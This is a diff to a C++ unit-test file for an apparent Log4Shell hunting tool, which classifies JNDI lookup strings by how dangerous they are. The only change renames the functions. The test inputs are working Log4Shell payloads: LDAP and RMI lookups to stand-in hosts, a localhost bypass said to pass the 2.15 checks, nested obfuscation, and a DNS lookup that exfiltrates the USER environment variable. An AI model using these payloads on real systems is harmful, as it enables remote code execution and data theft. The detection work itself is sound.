@@ -6,16 +6,16 @@ namespace l4s::hunt {
 namespace {
 
 TEST(ResolveTest, Verdicts) {
-  EXPECT_EQ(Resolve("${jndi:ldap://198.51.100.23:1389/a}").verdict, Verdict::kReachesJndi214);
-  EXPECT_EQ(Resolve("${jndi:ldap://127.0.0.1#evil.example:1389/a}").verdict, Verdict::kPasses215Checks);
-  EXPECT_EQ(Resolve("${${::-${::-$${::-j}}}}").verdict, Verdict::kDosOnly);
-  EXPECT_EQ(Resolve("GET /?q=${jenkins.url} HTTP/1.1").verdict, Verdict::kInert);
-  EXPECT_EQ(Resolve("$${jndi:ldap://x.example/a}").verdict, Verdict::kInert);
-  EXPECT_EQ(VerdictName(Verdict::kPasses215Checks), "passes_2.15_checks");
+  EXPECT_EQ(resolve("${jndi:ldap://198.51.100.23:1389/a}").verdict, Verdict::kReachesJndi214);
+  EXPECT_EQ(resolve("${jndi:ldap://127.0.0.1#evil.example:1389/a}").verdict, Verdict::kPasses215Checks);
+  EXPECT_EQ(resolve("${${::-${::-$${::-j}}}}").verdict, Verdict::kDosOnly);
+  EXPECT_EQ(resolve("GET /?q=${jenkins.url} HTTP/1.1").verdict, Verdict::kInert);
+  EXPECT_EQ(resolve("$${jndi:ldap://x.example/a}").verdict, Verdict::kInert);
+  EXPECT_EQ(verdict_name(Verdict::kPasses215Checks), "passes_2.15_checks");
 }
 
 TEST(ResolveTest, MessagePathOnly) {
-  Resolution r = Resolve("$${jndi:ldap://x.example/a} ${nope}");
+  Resolution r = resolve("$${jndi:ldap://x.example/a} ${nope}");
   EXPECT_EQ(r.verdict, Verdict::kReachesJndi214);
   EXPECT_NE(r.techniques & kTechMessageRescan, 0u);
   ASSERT_EQ(r.targets.size(), 1u);
@@ -23,7 +23,7 @@ TEST(ResolveTest, MessagePathOnly) {
 }
 
 TEST(ResolveTest, TargetsAndExfiltration) {
-  Resolution r = Resolve("${jndi:dns://${env:USER}.x.example} ${jndi:${lower:R}mi://y.example:1099/o}");
+  Resolution r = resolve("${jndi:dns://${env:USER}.x.example} ${jndi:${lower:R}mi://y.example:1099/o}");
   ASSERT_EQ(r.targets.size(), 2u);
   EXPECT_EQ(r.targets[0].name, "dns://${env:USER}.x.example");
   EXPECT_EQ(r.targets[1].name, "rmi://y.example:1099/o");
